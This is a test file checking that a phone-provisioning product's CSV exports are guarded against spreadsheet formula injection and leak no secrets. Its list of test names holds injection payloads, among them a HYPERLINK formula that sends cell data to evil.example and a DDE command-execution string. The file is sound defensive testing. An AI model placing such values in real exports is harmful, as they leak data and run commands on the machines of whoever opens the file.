import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runOffhook } from '../kit/cli.ts';
import { isFormula, readCsv, unguardCell } from '../kit/csv.ts';
import { fetchOwn, nextMac } from '../kit/office.ts';
import { ask, startTestProduct, type Answer, type TestProduct } from '../kit/product.ts';

let offhook: TestProduct;
let served: string;
const macs = Array.from({ length: 3 }, () => nextMac('yealink'));
const T = '/tenants/acme';

/** Names that somebody chose with the spreadsheet of whoever exports them in mind. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+49 30 1234',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  "'=1+1",
  '"=1+1"',
  'x;=1+1',
  'x";"=1+1',
  'x\t=1+1',
  'Müller, "Chef"',
  '日本',
];

const csv = (path: string, headers = offhook.bearer): Promise<Answer> =>
  ask(`${offhook.door('admin')}/api/v1${path}`, { headers });

type Row = Readonly<Record<string, string>>;

/** The rows by the names of their columns, with the guard taken away. */
function valuesOf(text: string): readonly Row[] {
  const [columns = [], ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(columns.map((column, at) => [column, unguardCell(row[at] ?? '')])));
}

/** Opened in a spreadsheet, whatever it separates by. */
function expectNoFormulas(text: string): void {
  for (const separator of [',', ';', '\t'] as const)
    expect(readCsv(text, separator).flat().filter(isFormula)).toEqual([]);
  expect(
    readCsv(text)
      .flat()
      .filter((cell) => /^[\t\r\n]/.test(cell)),
  ).toEqual([]);
}

beforeAll(async () => {
  offhook = await startTestProduct();
  for (const tenant of ['acme', 'globex']) await offhook.must('PUT', `/tenants/${tenant}`, {});
  await offhook.must('PUT', `${T}/groups/sales`, {});
  await offhook.must('PUT', `${T}/profiles/desk`, {});
  for (const [index, name] of NAMES.entries())
    await offhook.must('PUT', `${T}/people/person-${String(index)}`, { displayName: name, groups: ['sales'] });
  const extension = { password: 'canary-sip', serverHost: 'pbx.example.com', serverPort: 5061, displayName: NAMES[0] };
  for (const number of ['+4930', '-1', '202', '203'])
    await offhook.must('PUT', `${T}/extensions/${encodeURIComponent(number)}`, extension);
  const keys = { 'key/1': { key: { type: 'line', line: 1 } }, 'key/2': { key: { type: 'line', line: 2 } } };
  await offhook.must('PUT', `${T}/templates/office`, { vendor: 'yealink', models: ['T46U'], keys });
  const [first = '', second = '', third = ''] = macs;
  served = first;
  const phone = { vendor: 'yealink', model: 'T46U', httpPassword: 'canary-http' };
  const parts = { template: 'office', profile: 'desk', group: 'sales', person: 'person-0' };
  await offhook.must('PUT', `${T}/phones/${first}`, { ...phone, ...parts, lines: ['+4930', '202'] });
  const lines = [{ position: 2, extension: '-1' }];
  const more = { serial: 'S1234', firmware: '108.86.0.20', lines };
  await offhook.must('PUT', `${T}/phones/${second}`, { ...phone, ...more });
  await offhook.must('PUT', `/tenants/globex/phones/${third}`, phone);
  await fetchOwn(offhook, 'acme', 'yealink', first);
  await offhook.product.settle();
}, 60_000);
afterAll(() => offhook.close());

describe('R7 what is exported, opened as a spreadsheet opens it', () => {
  test('R7 through the API no cell of people, extensions or phones begins a formula, and every value is there', async () => {
    const people = await csv(`${T}/people.csv`);
    expect(people.status).toBe(200);
    expect(people.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="acme-people.csv"',
    });
    expectNoFormulas(people.text);
    const named = valuesOf(people.text).toSorted((a, b) => Number(a['name']?.slice(7)) - Number(b['name']?.slice(7)));
    expect(named.map(({ displayName }) => displayName)).toEqual(NAMES);
    expect(named[0]).toMatchObject({ tenant: 'acme', name: 'person-0', email: '', groups: 'sales', profile: '' });
    for (const table of ['extensions', 'phones']) {
      const { text } = await csv(`${T}/${table}.csv`);
      expectNoFormulas(text);
      expect(text).not.toContain('canary');
    }
  });

  test('R7 through the command line as well, with one line of columns for all tenants', async () => {
    const all = await runOffhook(offhook, 'phone', 'list', '--csv');
    expect(all).toMatchObject({ exitCode: 0, stderr: '' });
    expectNoFormulas(all.stdout);
    expect(valuesOf(all.stdout).map(({ tenant, name }) => `${tenant ?? ''} ${name ?? ''}`)).toEqual([
      `acme ${macs[0] ?? ''}`,
      `acme ${macs[1] ?? ''}`,
      `globex ${macs[2] ?? ''}`,
    ]);
    const one = await runOffhook(offhook, 'phone', 'list', '--csv', '--tenant', 'globex');
    expect(valuesOf(one.stdout)).toHaveLength(1);
    for (const table of ['extensions', 'people']) {
      const { stdout } = await runOffhook(offhook, 'object', 'get', `tenants/acme/${table}`, '--csv');
      expect(stdout).toBe((await csv(`${T}/${table}.csv`)).text);
    }
    expect(await runOffhook(offhook, 'phone', 'list', '--csv', '--json')).toMatchObject({ exitCode: 2 });
  });

  test('an export of phones says what each is, has and did', async () => {
    const { text, bytes } = await csv(`${T}/phones.csv`);
    expect(text.split('\r\n')[0]).toBe(
      'tenant,name,mac,serial,vendor,model,person,group,template,profile,extensions,state,firmware,lastFetch',
    );
    // RFC 4180: every record ends in CR LF; UTF-8 needs no byte order mark.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(bytes.subarray(0, 1).toString()).toBe('t');
    const [first, second] = valuesOf(text);
    expect(first).toMatchObject({
      tenant: 'acme',
      mac: served,
      vendor: 'yealink',
      model: 'T46U',
      person: 'person-0',
      group: 'sales',
      template: 'office',
      profile: 'desk',
      extensions: '+4930 202',
      state: 'served',
    });
    expect(Date.parse(first?.['lastFetch'] ?? '')).toBeLessThanOrEqual(Date.now());
    expect(second).toMatchObject({ extensions: '2:-1', state: 'owned', firmware: '108.86.0.20', lastFetch: '' });
    const [extension] = valuesOf((await csv(`${T}/extensions.csv`)).text);
    expect(extension).toEqual({
      tenant: 'acme',
      number: '+4930',
      displayName: NAMES[0],
      user: '+4930',
      authUser: '',
      serverHost: 'pbx.example.com',
      serverPort: '5061',
      transport: '',
      shared: 'false',
      phones: served,
    });
  });

  test('the head of a table can be left out, a table that is not there and one of another tenant are not there', async () => {
    const whole = await csv(`${T}/people.csv`);
    const body = await csv(`${T}/people.csv?header=absent`);
    expect(whole.text).toBe(`tenant,name,displayName,email,groups,profile\r\n${body.text}`);
    expect((await csv('/tenants/nobody/people.csv')).status).toBe(404);
    expect((await csv(`${T}/people.csv?header=maybe`)).status).toBe(400);
    expect((await csv(`${T}/groups.csv`)).status).toBe(404);
  });
});
